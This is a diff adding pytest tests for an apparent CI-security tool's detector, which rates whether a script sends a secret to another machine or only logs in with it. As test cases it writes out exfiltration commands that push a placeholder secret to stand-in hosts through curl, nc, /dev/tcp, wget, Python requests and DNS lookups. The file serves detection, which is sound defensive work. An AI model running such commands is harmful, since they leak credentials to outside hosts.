@@ -1,0 +1,59 @@
+"""Whether a script sends a secret, and whether it logs in with it."""
+
+import pytest
+
+from pipeguard.detect.commands.network_commands import MARK, MAX_SCRIPT, sends
+from pipeguard.firewall.finding import Confidence
+
+
+def sent(script: str, *, logs_in: bool = False) -> Confidence | None:
+    return sends(script.replace("KEY", MARK), lambda _: logs_in)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "curl -d KEY https://h.example",
+        "curl https://h.example/?k=KEY",
+        "echo KEY | nc h 80",
+        "bash -c 'curl -d KEY https://h.example'",
+        "echo KEY > f; curl -T f https://h.example",
+        "echo KEY > /dev/tcp/h/80",
+        "python3 -c 'import requests; requests.post(u, data=\"KEY\")'",
+        "sudo -u a wget --post-data=KEY https://h.example",
+        "nslookup KEY.h.example",
+        "docker run x curl -d KEY https://h.example",
+    ],
+)
+def test_what_talks_to_another_machine_sends_it(script: str) -> None:
+    assert sent(script) is Confidence.HIGH
+
+
+@pytest.mark.parametrize(
+    "script",
+    ["export A=KEY", "echo KEY", "grep KEY file", "psql -h localhost -c 'select KEY'", "ls -la"],
+)
+def test_what_stays_on_this_machine_sends_nothing(script: str) -> None:
+    assert sent(script) is None
+
+
+@pytest.mark.parametrize(
+    "script",
+    ["mysql -h db.example -pKEY", "curl -u me:KEY https://h.example", "sshpass -p KEY ssh h"],
+)
+def test_a_program_may_log_in_with_it(script: str) -> None:
+    assert sent(script) is Confidence.MEDIUM
+
+
+def test_who_asks_may_know_that_it_is_a_login() -> None:
+    assert sent("curl -H 'X-Api-Key: KEY' https://h.example") is Confidence.HIGH
+    assert sent("curl -H 'X-Api-Key: KEY' https://h.example", logs_in=True) is Confidence.MEDIUM
+
+
+def test_another_line_of_a_script_that_talks_may_send_what_this_one_keeps() -> None:
+    assert sent("export A=KEY\ncurl -d $B https://h.example") is Confidence.MEDIUM
+
+
+def test_where_a_script_is_too_long_to_know_it_counts_as_sent() -> None:
+    assert sent("echo KEY" + " " * MAX_SCRIPT) is Confidence.HIGH
+    assert sent("echo a" + " " * MAX_SCRIPT) is None
